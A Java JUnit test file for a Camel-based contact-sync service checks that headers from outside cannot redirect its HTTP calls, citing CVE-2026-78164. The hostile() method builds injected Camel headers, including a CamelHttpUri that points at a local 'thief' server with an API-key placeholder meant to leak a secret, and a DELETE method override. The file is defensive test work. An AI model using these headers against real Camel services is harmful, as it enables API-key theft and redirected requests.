package truthforge.sync.operate;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import truthforge.sync.contact.Contact;
import truthforge.sync.flow.Reread;
import truthforge.sync.ledger.Replica;
import truthforge.sync.sandbox.StandIn;
import truthforge.sync.sandbox.StandIn.Fault;

/**
 * Camel's HTTP producer goes where a message's headers tell it (and, up to the version pinned here,
 * resolves placeholders in them: CVE-2026-78164). No header from outside gets that far.
 */
class HostileHeadersTest {

  private final AtomicInteger calls = new AtomicInteger();
  private final List<String> requests = new CopyOnWriteArrayList<>();
  private HttpServer thief;
  private Listening service;

  @BeforeEach
  void a_service_and_a_thief(@TempDir Path folder) throws Exception {
    thief = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    thief.createContext(
        "/",
        exchange -> {
          calls.incrementAndGet();
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    thief.start();
    service = new Listening(folder, World.ALL);
    service.world.sql(
        "insert into contacts_master(first_name, emails, job_title) values"
            + " ('Ada', '[\"ada@example.com\"]', 'before')");
    service.world.engine.runCycle();
    for (StandIn system :
        List.of(service.world.twenty, service.world.supabase, service.world.bigquery)) {
      system.inject(
          Fault.unreachable()
              .when(
                  request -> {
                    requests.add(
                        request.method()
                            + " "
                            + request.path()
                            + "?"
                            + request.query()
                            + request.headers()
                            + request.bodyText());
                    return false;
                  }));
    }
  }

  @AfterEach
  void they_end() {
    service.close();
    thief.stop(0);
  }

  private Map<String, String> hostile() {
    String url = "http://127.0.0.1:" + thief.getAddress().getPort() + "/stolen";
    Map<String, String> headers = new LinkedHashMap<>();
    headers.put("CamelHttpUri", url + "?key={{twenty.api-key}}");
    headers.put("CamelRestHttpUri", url);
    headers.put("CamelHttpQuery", "stolen=1");
    headers.put("CamelHttpPath", "/stolen");
    headers.put("CamelHttpMethod", "DELETE");
    headers.put("CamelHttpHost", "stolen");
    headers.put("CamelOverruleFileName", "stolen");
    headers.put("CamelToEndpoint", url);
    headers.put("camelhttpuri", url);
    return headers;
  }

  @Test
  void headers_and_query_of_a_genuine_event_lead_nowhere() throws Exception {
    String id = service.onlyPersonsId();
    service.person("PATCH", "/rest/people/" + id, "{\"jobTitle\":\"edited in Twenty\"}");
    byte[] body = Listening.event("person.updated", id).getBytes(StandardCharsets.UTF_8);
    String now = service.now();
    HttpRequest.Builder event =
        service.twenty(now, Listening.signature(Listening.SECRET, now, body), body);
    hostile().forEach(event::header);
    event.uri(service.url("/webhooks/twenty?CamelHttpUri=http://stolen/&id=stolen&system=stolen"));

    assertThat(service.send(event.build()).statusCode()).isEqualTo(204);

    service.await("the edit", () -> "edited in Twenty".equals(service.local("job_title")));
    assertThat(calls).hasValue(0);
    assertThat(requests).isNotEmpty().noneMatch(request -> request.contains("stolen"));
  }

  @Test
  void headers_that_had_got_in_would_not_move_a_call_elsewhere() {
    Replica person = Replica.absent("", "twenty").withExternalId(service.onlyPersonsId());
    Map<String, Object> headers = new LinkedHashMap<>(hostile());

    Object found =
        service
            .world
            .engine
            .context()
            .createProducerTemplate()
            .requestBodyAndHeaders(
                "direct:read-twenty", List.of(new Reread(person, Contact.blank(""))), headers);

    assertThat((List<?>) found).hasSize(1);
    assertThat(calls).hasValue(0);
    assertThat(requests).isNotEmpty().noneMatch(request -> request.contains("stolen"));
  }
}
